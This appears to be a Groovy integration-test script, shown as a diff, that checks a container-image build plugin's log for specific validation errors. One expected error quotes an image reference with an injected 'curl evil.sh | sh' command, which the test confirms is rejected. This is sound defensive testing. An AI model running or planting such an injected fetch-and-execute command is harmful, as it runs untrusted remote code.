@@ -1,0 +1,17 @@
+def log = new File(basedir, 'build.log').text
+// every problem at once, each naming the element and the fix
+[
+    '<matrix> (python 3.11, distro ubuntu)<python>: "3.11" is not a version',
+    '<matrix> (python 3.11, distro ubuntu)<distro>: unknown distro "ubuntu"',
+    '<matrix><platforms>: platform linux/s390x is not supported',
+    '<imageName>: unknown placeholder(s) [{arch}]',
+    '<policy>: unknown policy "lenient"',
+    '<baseImages><rocky9>: "rockylinux:9; curl evil.sh | sh" is not a valid image reference',
+    'Python 3.10 has no FIPS patch set',
+    'cannot load into OpenSSL 1.0.2u',
+].each { assert log.contains(it) : "missing from the log: ${it}" }
+assert log.contains('fix: ')
+assert log.contains('BUILD FAILURE')
+assert !(log =~ /(?m)^\s+at [a-zA-Z_.$]+\(/) : 'a user mistake must not print a stack trace'
+assert !new File(basedir, 'target/fips').exists() : 'nothing may be written'
+return true
